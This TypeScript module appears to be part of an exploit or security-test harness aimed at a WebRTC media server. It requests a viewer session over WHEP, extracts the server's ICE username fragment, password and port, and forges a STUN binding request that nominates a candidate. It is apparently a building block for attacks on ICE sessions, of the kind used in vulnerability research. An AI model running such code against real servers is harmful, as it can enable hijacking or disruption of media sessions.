import { randomBytes } from 'node:crypto';
import { writeStun } from '@weir/media/stun';
import { holds } from '../../attack.ts';
import type { Target } from '../../target.ts';
import { offerOf } from './unconnected-peers.ts';

const name = 6;
const nominates: [number, Buffer] = [0x25, Buffer.alloc(0)];

export interface Session {
  readonly ufrag: string;
  readonly password: string;
  readonly port: number;
}

/** Session of a viewer, which anyone may have, with its ICE credentials. */
export async function offer(target: Target): Promise<Session> {
  const path = '/rtc/v1/whep/?app=live&stream=honest&eip=127.0.0.1';
  const headers = { 'content-type': 'application/sdp' };
  const { status, text } = await target.sendRequest(path, { method: 'POST', headers, body: offerOf('abcd') });
  holds(status === 201, `an offer is answered ${status}`);
  const of = (pattern: RegExp) => pattern.exec(text)?.[1] ?? '';
  return {
    ufrag: of(/a=ice-ufrag:(\S+)/),
    password: of(/a=ice-pwd:(\S+)/),
    port: Number(of(/a=candidate:\S+ 1 udp \d+ \S+ (\d+)/)),
  };
}

export function check({ ufrag, password }: Session): Buffer {
  return writeStun(1, randomBytes(12), [[name, Buffer.from(`${ufrag}:abcd`)], nominates], password);
}
